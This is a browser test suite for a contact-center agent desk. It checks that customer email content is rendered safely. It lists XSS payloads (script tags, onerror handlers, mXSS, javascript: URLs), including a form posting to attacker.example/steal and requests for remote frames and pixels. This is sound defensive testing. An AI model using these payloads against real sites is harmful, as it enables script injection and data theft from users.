"""Hostile strings from customers never run in the agent's browser (RELIABILITY PARSE-3/4).

Payloads arrive as an email's HTML and text, its subject, the sender's display
name and an attachment's file name; the desk renders the inbox, the workspace,
the customer panel and the history. No dialog opens, no script sets a flag and
the browser asks nothing of the attacker's host.
"""

from __future__ import annotations

from typing import Any

import pytest

from contactcenter.channels.base import AttachmentRef
from tests.agent_ui.conftest import Desk, ingest
from tests.agent_ui.test_browser import (  # noqa: F401 - fixtures
    console_errors,
    dialogs,
    live_port,
    live_url,
    settings,
    sign_in,
)

pytestmark = pytest.mark.browser

ATTACKER = "attacker.example"

HTML_PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg><script>alert('svg')</script></svg>",
    "<svg onload=alert('svgload')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph>",
    "<a href=\"javascript:alert('js')\">click</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<iframe src=\"http://attacker.example/frame\"></iframe>",
    "<base href=\"http://attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://attacker.example/\">",
    "<form action=\"http://attacker.example/steal\"><input name=p></form>",
    "<div style=\"background:url(http://attacker.example/bg.png)\">css</div>",
    "<img src=\"http://attacker.example/pixel.gif\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\">",
    "<details open ontoggle=alert('toggle')>",
]

TEXT_PAYLOADS = [
    "<img src=x onerror=alert('subject')>",
    "\"><script>alert('attr')</script>",
    "{{7*7}}<b onmouseover=alert('b')>bold</b>",
]


def test_no_payload_runs_anywhere_on_the_desk(page: Any, desk: Desk, session: Any,
                                              settings: Any, dialogs: list[str]) -> None:  # noqa: F811
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.add_init_script("window.__pwned = false")
    numbers = []
    for i, payload in enumerate(HTML_PAYLOADS):
        ticket = ingest(session, settings, inbox_id=desk.inbox_a.id, html=payload,
                        text=f"plain {payload}", subject=TEXT_PAYLOADS[i % len(TEXT_PAYLOADS)],
                        name=TEXT_PAYLOADS[(i + 1) % len(TEXT_PAYLOADS)],
                        sender=f"victim{i}@example.com",
                        attachments=(AttachmentRef(
                            filename=f"<img src=x onerror=alert('file{i}')>.txt",
                            content_type="text/plain", data=b"hello"),))
        numbers.append(ticket.number)

    sign_in(page)
    page.wait_for_selector("#live[data-state=live]", timeout=15_000)
    assert page.locator("#tickets tr[data-number]").count() >= len(HTML_PAYLOADS)
    for number in numbers:
        page.goto(f"/#ticket-{number}")
        page.locator("#ws-title", has_text=f"#{number}").wait_for(timeout=10_000)
        page.locator("#timeline li").first.wait_for(timeout=10_000)
        page.wait_for_timeout(150)
    # Hover everything that might carry a handler.
    for node in page.locator("#timeline *, #tickets *").all()[:60]:
        try:
            node.hover(timeout=100)
        except Exception:  # noqa: BLE001 - hidden or detached nodes are fine
            pass
    assert dialogs == []
    assert page.evaluate("window.__pwned") is False
    assert not [u for u in requested if ATTACKER in u]
    # The plain fields are shown as the text they are.
    assert "onerror=alert('subject')" in page.inner_text("#tickets")
